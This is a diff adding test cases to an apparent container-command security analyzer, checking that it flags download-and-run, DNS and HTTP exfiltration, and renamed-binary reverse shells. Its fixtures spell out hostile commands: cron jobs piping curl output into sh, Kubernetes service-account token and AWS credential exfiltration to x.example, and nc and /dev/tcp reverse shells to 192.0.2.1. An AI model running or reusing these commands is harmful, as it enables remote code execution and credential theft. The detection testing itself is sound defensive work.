@@ -339,3 +339,230 @@ describe('what runs, through launchers and images', () => {
     expect(e === undefined ? [] : sources(e, 'exec')).toEqual(['http://192.0.2.1/x']);
   });
 });
+
+describe('cron tables installed in the container run their entries', () => {
+  it.each([
+    ['echo "*/5 * * * * wget -qO- http://192.0.2.1/p | sh" > /etc/crontabs/root && crond -f'],
+    ["printf '* * * * * curl -s http://192.0.2.1/p | sh\\n' > /var/spool/cron/crontabs/root; cron"],
+    ['echo "* * * * * root curl -s http://192.0.2.1/p | bash" > /etc/cron.d/updater'],
+    ['echo "@reboot curl -s http://192.0.2.1/p | sh" | crontab -'],
+    ['echo "* * * * * curl -s http://192.0.2.1/p | sh" > /tmp/c; crontab -u root /tmp/c; crond -b'],
+    ['echo "* * * * * curl -s http://192.0.2.1/p | sh" > /tmp/c; exec supercronic /tmp/c'],
+  ])('%s', (script) => {
+    expect(sources(sh(script), 'exec')).toContain('http://192.0.2.1/p');
+  });
+
+  it('a decoded table is code from a decoder; a plain one runs nothing foreign', () => {
+    const decoded = sh('echo KiAqICogKiAqIGlkCg== | base64 -d | crontab -');
+    expect(sources(decoded, 'exec')).toContain('decoded');
+    const plain = sh('echo "0 * * * * /usr/sbin/logrotate /etc/logrotate.conf" | crontab - && cron -f');
+    expect(plain.flows.filter((f) => f.sink === 'exec')).toEqual([]);
+    expect(plain.invocations.map((i) => i.program)).toContain('logrotate');
+  });
+
+  it('listing or removing a table installs nothing', () => {
+    expect(sh('curl -s http://192.0.2.1/p | crontab -l').flows.filter((f) => f.sink === 'exec')).toEqual([]);
+  });
+});
+
+describe('content in a looked-up name is sent to that name’s domain', () => {
+  const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
+  it.each([
+    [`for c in $(base32 -w0 ${TOKEN} | tr -d = | fold -w 60); do nslookup $c.x.example; done`],
+    [`dig +short $(xxd -p ${TOKEN} | head -c 60).x.example`],
+    [`getent hosts $(cat ${TOKEN} | base32 | cut -c1-50).x.example`],
+  ])('%s', (script) => {
+    expect(sources(sh(script), 'send')).toContain('service-account-token');
+  });
+
+  it.each([
+    [
+      'python3',
+      `import socket\nt=open("${TOKEN}").read()\nsocket.gethostbyname(t[:40].encode().hex()+".x.example")`,
+    ],
+    [
+      'node',
+      `const t=require("fs").readFileSync("${TOKEN}","utf8");require("dns").lookup(t.slice(0,40)+".x.example",()=>{})`,
+    ],
+  ])('%s resolver call', (interpreter, code) => {
+    const [e] = run([
+      { name: 'c', image: 'alpine', command: [interpreter, interpreter === 'node' ? '-e' : '-c', code] },
+    ]);
+    expect(e === undefined ? [] : sources(e, 'send')).toContain('service-account-token');
+  });
+
+  it('a file read through ~ is read from $HOME', () => {
+    expect(sources(sh('cat ~/.aws/credentials | curl -d @- https://x.example/'), 'send')).toContain(
+      'cloud-credentials',
+    );
+  });
+
+  it('the whole environment is a secret source; one variable by name is not', () => {
+    expect(sources(sh('env | curl -d @- https://x.example/'), 'send')).toContain('secret');
+    expect(sources(sh('curl -d "$(cat /proc/self/environ)" https://x.example/'), 'send')).toContain('secret');
+    expect(sources(sh('printenv HOME | curl -d @- https://x.example/'), 'send')).toEqual([]);
+  });
+});
+
+describe('interpreters: fetched content reaches code through collections and callbacks', () => {
+  const code = (interpreter: string, flag: string, text: string): Execution => {
+    const [e] = run([{ name: 'c', image: 'alpine', command: [interpreter, flag, text] }]);
+    if (e === undefined) throw new Error('no container');
+    return e;
+  };
+
+  it.each([
+    [
+      'chunks pushed to an array, joined and run in a vm',
+      'const h=require("http"),vm=require("vm");h.get("http://192.0.2.1/p",r=>{const c=[];r.on("data",x=>c.push(x));r.on("end",()=>vm.runInThisContext(Buffer.concat(c).toString()))})',
+    ],
+    [
+      'a string grown in a data callback, run by new Function',
+      'require("https").get("https://cdn.example/a.js",r=>{let b="";r.on("data",d=>b+=d);r.on("end",()=>new Function(b)())})',
+    ],
+  ])('node: %s', (_name, text) => {
+    expect(sources(code('node', '-e', text), 'exec').length).toBe(1);
+  });
+
+  it('python: parts appended to a list and joined are the download', () => {
+    const e = code(
+      'python3',
+      '-c',
+      'import urllib.request as u\nparts=[]\nparts.append(u.urlopen("http://192.0.2.1/x").read())\nexec(b"".join(parts))',
+    );
+    expect(sources(e, 'exec')).toEqual(['http://192.0.2.1/x']);
+  });
+
+  it('a fetch with certificate checks off marks its content, in every spelling', () => {
+    const insecure = (e: Execution) =>
+      e.flows.some((f) => f.sink === 'exec' && f.source.kind === 'network' && f.source.insecure === true);
+    expect(insecure(sh('curl -sk https://cdn.example/a | sh'))).toBe(true);
+    expect(insecure(sh('wget --no-check-certificate -qO- https://cdn.example/a | sh'))).toBe(true);
+    expect(
+      insecure(
+        code(
+          'python3',
+          '-c',
+          'import urllib.request,ssl\nexec(urllib.request.urlopen("https://cdn.example/a", context=ssl._create_unverified_context()).read())',
+        ),
+      ),
+    ).toBe(true);
+    expect(
+      insecure(
+        code(
+          'python3',
+          '-c',
+          'import requests\nexec(requests.get("https://cdn.example/a", verify=False).text)',
+        ),
+      ),
+    ).toBe(true);
+    expect(insecure(sh('curl -s https://cdn.example/a | sh'))).toBe(false);
+  });
+});
+
+describe('download-and-run spellings that name the pipe or the file another way', () => {
+  it.each([
+    ['wget -qO- http://192.0.2.1/i | . /dev/stdin'],
+    ['curl -s http://192.0.2.1/i | bash /dev/stdin'],
+    ['curl -s http://192.0.2.1/i | python3 /dev/stdin'],
+    ["wget -qO- http://192.0.2.1/i | awk '{system($0)}'"],
+    ['cd /tmp && wget -q http://192.0.2.1/i && find /tmp -name "i*" -exec sh {} \\;'],
+    [`env -S 'sh -c "curl -s http://192.0.2.1/i | sh"'`],
+    [`env -S 'curl -s' http://192.0.2.1/i | sh`],
+  ])('%s', (script) => {
+    expect(sources(sh(script), 'exec')).toContain('http://192.0.2.1/i');
+  });
+
+  it('find -exec over files the pod did not fetch runs nothing foreign', () => {
+    expect(sh('find /data -name "*.tmp" -mtime +7 -exec rm -f {} \\;').flows).toEqual([]);
+  });
+
+  it('awk over its own files is not reading stdin', () => {
+    expect(sh("awk '{system($0)}' /etc/jobs.txt").flows).toEqual([]);
+  });
+
+  it.each([
+    ['cp $(which nc) /tmp/kworker; /tmp/kworker 192.0.2.1 4444 -e /bin/sh'],
+    ['ln -s "$(command -v bash)" /tmp/.k; /tmp/.k -i >& /dev/tcp/192.0.2.1/4444 0>&1'],
+    ['cp /usr/bin/ncat /usr/local/bin/sshd-helper && sshd-helper 192.0.2.1 4444 -e /bin/sh'],
+  ])('a program copied under another name runs as itself: %s', (script) => {
+    expect(stdio(sh(script))).toBeGreaterThan(0);
+  });
+});
+
+describe('a downloaded file loaded as code by an interpreter ran from where it was dropped', () => {
+  it.each([
+    ['ruby -e "load \\"/tmp/a.x\\""'],
+    ['php -r "include \\"/tmp/a.x\\";"'],
+    ['node -e "require(\\"/tmp/a.x\\")"'],
+    ['python3 -c "exec(open(\\"/tmp/a.x\\").read())"'],
+    ['python3 -c "import runpy; runpy.run_path(\\"/tmp/a.x\\")"'],
+  ])('curl -so /tmp/a.x …; %s', (load) => {
+    const e = sh(`curl -so /tmp/a.x https://cdn.example/a.x; ${load}`);
+    const flow = e.flows.find((f) => f.sink === 'exec');
+    expect(flow?.source).toEqual({ kind: 'network', url: 'https://cdn.example/a.x' });
+    expect(flow?.steps).toContain('runs /tmp/a.x');
+  });
+
+  it('a module by name is a library, not a file', () => {
+    const [e] = run([
+      { name: 'c', image: 'ruby', command: ['ruby', '-e', 'require "json"; puts JSON.generate({})'] },
+    ]);
+    expect(e?.flows).toEqual([]);
+  });
+});
+
+describe('credentials leave in more spellings', () => {
+  const code = (interpreter: string, flag: string, text: string): Execution => {
+    const [e] = run([{ name: 'c', image: 'alpine', command: [interpreter, flag, text] }]);
+    if (e === undefined) throw new Error('no container');
+    return e;
+  };
+
+  it('the whole environment serialized by an interpreter is a secret source; one variable is not', () => {
+    expect(
+      sources(
+        code(
+          'python3',
+          '-c',
+          'import os,json,requests\nrequests.post("https://x.example/e", data=json.dumps(dict(os.environ)))',
+        ),
+        'send',
+      ),
+    ).toContain('secret');
+    expect(
+      sources(
+        code('node', '-e', 'fetch("https://x.example/e",{method:"POST",body:JSON.stringify(process.env)})'),
+        'send',
+      ),
+    ).toContain('secret');
+    expect(
+      sources(
+        code(
+          'python3',
+          '-c',
+          'import os,requests\nrequests.post("https://x.example/e", data=os.environ["REGION"])',
+        ),
+        'send',
+      ),
+    ).not.toContain('secret');
+  });
+
+  it('a home-relative credential path is root’s home, in the shell and in code', () => {
+    expect(
+      sources(
+        code(
+          'python3',
+          '-c',
+          'import os,requests\nrequests.post("https://x.example/", data=open(os.path.expanduser("~/.aws/credentials")).read())',
+        ),
+        'send',
+      ),
+    ).toContain('cloud-credentials');
+  });
+
+  it('a substring of the token in a looked-up name is the token sent', () => {
+    const e = sh('T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); host ${T:0:60}.x.example');
+    expect(sources(e, 'send')).toContain('service-account-token');
+  });
+});
